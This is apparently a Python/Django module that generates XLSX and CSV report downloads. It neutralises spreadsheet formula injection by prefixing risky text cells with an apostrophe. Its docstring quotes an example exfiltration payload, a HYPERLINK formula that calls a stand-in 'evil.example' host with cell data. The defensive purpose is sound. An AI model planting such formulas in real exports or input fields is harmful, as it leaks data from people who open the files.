"""Spreadsheet exports shared by every report: XLSX and CSV, safe to open.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return would be read by Excel or
LibreOffice as a formula (`=HYPERLINK("http://evil.example/?"&A1, …)` in a category's or a person's name
sends data away when clicked). `safe_cell` prefixes such text with an apostrophe, so it is stored and
shown as text; every cell of `xlsx_response` and `csv_response`, headings included, goes through it.
Numbers, dates and empty cells are kept as they are.
"""

import csv
import io

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIME = "text/csv; charset=utf-8"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """`value`, with text that a spreadsheet would read as a formula prefixed by an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_cell(value) for value in values]


def xlsx_response(*, filename: str, sheet: str, header: list[str], rows) -> HttpResponse:
    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(title=sheet[:31])
    bold = Font(bold=True)
    cells = []
    for title in header:
        cell = WriteOnlyCell(worksheet, value=safe_cell(str(title)))
        cell.font = bold
        cells.append(cell)
    worksheet.append(cells)
    for row in rows:
        worksheet.append(safe_row(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_MIME)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(*, filename: str, header: list[str], rows) -> HttpResponse:
    """UTF-8 with a byte-order mark (Excel then reads Vietnamese correctly), comma-separated."""
    response = HttpResponse(content_type=CSV_MIME)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv.writer(response)
    writer.writerow(safe_row(str(title) for title in header))
    for row in rows:
        writer.writerow(safe_row(row))
    return response
